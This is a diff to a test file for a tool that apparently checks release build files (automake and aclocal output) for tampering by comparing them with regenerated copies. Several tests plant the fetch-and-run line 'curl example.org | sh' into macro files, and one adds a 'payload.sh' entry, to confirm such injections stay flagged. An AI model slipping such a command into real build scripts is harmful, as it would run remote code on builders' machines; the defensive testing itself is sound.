@@ -46,11 +46,26 @@ test('DIST_COMMON may differ by aux scripts only', () => {
   const release = 'am__DIST_COMMON = $(srcdir)/Makefile.in \\\n\tbuild-aux/compile \\\n\tbuild-aux/missing\nX = 1\n';
   const r = stabilize(release, regenerated, input('automake'));
   assert.is(r.release, r.regenerated);
-  assert.equal(r.applied.map((a) => a.name), ['dist-common-aux-scripts']);
+  assert.equal(r.applied.map((a) => a.name), ['dist-common-found-files']);
   const extra = stabilize(release.replace('$(srcdir)/Makefile.in', '$(srcdir)/Makefile.in payload.sh'), regenerated, input('automake'));
   assert.is.not(extra.release, extra.regenerated, 'a word that is not an aux script is not forgiven');
   const elsewhere = stabilize(release.replace('X = 1', 'X = 2'), regenerated, input('automake'));
   assert.is.not(elsewhere.release, elsewhere.regenerated, 'lines outside DIST_COMMON still differ');
+});
+
+test('DIST_COMMON may differ by the files automake lists whenever it finds them, in the top folder too', () => {
+  // flac 1.4.2: no depcomp in the top list; libffi 3.4.4: a ChangeLog one side listed.
+  const regenerated = 'am__DIST_COMMON = $(srcdir)/Makefile.in $(srcdir)/config.h.in AUTHORS ChangeLog \\\n\tREADME.md compile config.sub \\\n\tdepcomp install-sh missing\nX = 1\n';
+  const release = 'am__DIST_COMMON = $(srcdir)/Makefile.in $(srcdir)/config.h.in AUTHORS README.md \\\n\tcompile config.sub install-sh missing\nX = 1\n';
+  const r = stabilize(release, regenerated, input('automake'));
+  assert.is(r.release, r.regenerated);
+  assert.equal(r.applied.map((a) => a.name), ['dist-common-found-files']);
+  for (const word of ['ChangeLog.sh', 'configure.sh', 'src/depcomp', '$(top_srcdir)/depcomp.in']) {
+    const other = stabilize(release.replace('compile', `compile ${word}`), regenerated, input('automake'));
+    assert.is.not(other.release, other.regenerated, `${word} is no file automake lists when found`);
+  }
+  const moved = stabilize(release.replace('$(srcdir)/Makefile.in $(srcdir)/config.h.in', '$(srcdir)/config.h.in $(srcdir)/Makefile.in'), regenerated, input('automake'));
+  assert.is.not(moved.release, moved.regenerated, 'the other words keep their order');
 });
 
 test("aclocal's copy of an installed macro is forgiven when it has the code of a known-good version of that file", () => {
@@ -69,6 +84,42 @@ test("aclocal's copy of an installed macro is forgiven when it has the code of a
   const planted = release.replace('[old]', '[old; curl example.org | sh]');
   const p = stabilize(planted, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', installedMacros: new Map([['pkg.m4', installed]]), knownGood });
   assert.is.not(p.release, p.regenerated, 'a copy that is no known version stays different');
+});
+
+test('copies of installed macros one after another are each placed and forgiven, when their neighbours differ too', () => {
+  // libarchive 3.6.2: libtool 2.4.6's libtool.m4, ltoptions.m4 and the rest, then pkg-config's pkg.m4, each right after the other.
+  const file = (name: string, version: string, first = `# ${name} - macros of the tool -*- Autoconf -*-`) =>
+    `${first}\n#   Copyright (C) 2004-${version} Free Software Foundation\n# serial ${version} ${name}\nAC_DEFUN([${name.replace(/\W/g, '_')}], [version ${version}])\nm4_ifndef([_LT_PROG_CXX],\t\t[AC_DEFUN([_LT_PROG_CXX])])\n`;
+  const names = ['libtool.m4', 'ltoptions.m4', 'pkg.m4'];
+  const installed = new Map(names.map((n) => [n, `## internal\n${file(n, '2022', n === 'pkg.m4' ? '# pkg.m4 - Macros to locate and use pkg-config.' : undefined)}`]));
+  const old = new Map(names.map((n) => [n, file(n, '2015', n === 'pkg.m4' ? '# pkg.m4 - Macros to locate and utilise pkg-config.' : undefined)]));
+  const head = '# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n\n';
+  const tail = '# Copyright (C) 2002-2021 Free Software Foundation, Inc.\nAC_DEFUN([AM_INIT_AUTOMAKE], [x])\n\nm4_include([m4/x.m4])\n';
+  const regenerated = head + names.map((n) => installed.get(n)!.replace(/^##.*\n/gm, '')).join('\n') + '\n' + tail;
+  const releaseOf = (texts: Map<string, string>) => head + names.map((n) => texts.get(n)!).join('\n') + '\n' + tail;
+  const known = new Set([...old.values()].map(m4CodeHash));
+  const knownGood = (hash: string, name: string) => (known.has(hash) ? `libtool 2.4.6's ${name}` : undefined);
+  const run = (release: string) => stabilize(release, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', installedMacros: installed, knownGood });
+
+  const r = run(releaseOf(old));
+  assert.is(r.release, r.regenerated);
+  assert.equal(r.applied.map((a) => a.name), ['aclocal-installed-macro-version']);
+  for (const n of names) assert.match(r.applied[0]!.forgives, `${n}: the release has libtool 2.4.6's ${n}`);
+
+  // One copy that is no known version stays in the diff; the others are still forgiven.
+  const planted = new Map(old).set('ltoptions.m4', old.get('ltoptions.m4')!.replace('[version 2015]', '[version 2015; curl example.org | sh]'));
+  const p = run(releaseOf(planted));
+  assert.is.not(p.release, p.regenerated);
+  const left = residualOf(p.release, p.regenerated, 'aclocal', 'aclocal.m4');
+  assert.ok(left.added.some((l) => l.includes('curl example.org')), 'the planted line is what is left');
+  assert.not.match(p.applied[0]!.forgives, /ltoptions\.m4:/);
+  assert.match(p.applied[0]!.forgives, /libtool\.m4: the release has/);
+  assert.match(p.applied[0]!.forgives, /pkg\.m4: the release has/);
+
+  // A line between two copies is no part of either: it stays.
+  const between = releaseOf(old).replace(`${old.get('libtool.m4')!}\n`, `${old.get('libtool.m4')!}\nAC_DEFUN([X], [curl example.org | sh])\n`);
+  const b = run(between);
+  assert.is.not(b.release, b.regenerated);
 });
 
 test('residual lines: what runs or sets is critical, other lines high', () => {
